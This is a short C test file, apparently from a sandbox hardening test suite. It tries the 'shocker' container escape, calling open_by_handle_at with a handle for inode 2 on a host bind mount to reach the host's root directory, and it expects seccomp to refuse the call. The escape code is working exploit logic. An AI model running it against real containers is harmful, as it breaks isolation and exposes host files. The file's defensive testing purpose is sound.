// The "shocker" escape: open_by_handle_at(2) opens a file by its file handle without path
// checks; with a handle for inode 2 (the root of an ext4 file system) on a host mount fd —
// /usr's bind here — it opens the host's real root directory.
// Blocked by: seccomp refuses open_by_handle_at and name_to_handle_at (EPERM), and
// CAP_DAC_READ_SEARCH is not in the set.
// space-attack: sandbox=shared
#include "../attack.h"

struct handle {
  unsigned int handle_bytes;
  int handle_type;
  unsigned char f_handle[8];
};

int main(void) {
  int mount_fd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount_fd < 0) broken("open /usr: %s", strerror(errno));
  struct handle h = {.handle_bytes = 8, .handle_type = 1};  // FILEID_INO32_GEN
  uint32_t ino = 2, gen = 0;
  memcpy(h.f_handle, &ino, 4);
  memcpy(h.f_handle + 4, &gen, 4);
  long fd = syscall(SYS_open_by_handle_at, mount_fd, &h, O_RDONLY | O_DIRECTORY);
  if (fd >= 0) {
    sees_host_canary((int)fd, "open_by_handle_at(inode 2)");
    escaped("open_by_handle_at opened inode 2 of the host file system");
  } else {
    refused("open_by_handle_at(/usr's fs, inode 2)", fd, EPERM, 0);
  }
  struct {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[128];
  } out = {.handle_bytes = 128};
  int mount_id;
  refused("name_to_handle_at(/usr/bin)",
          syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr/bin", &out, &mount_id, 0), EPERM, 0);
  finish();
}
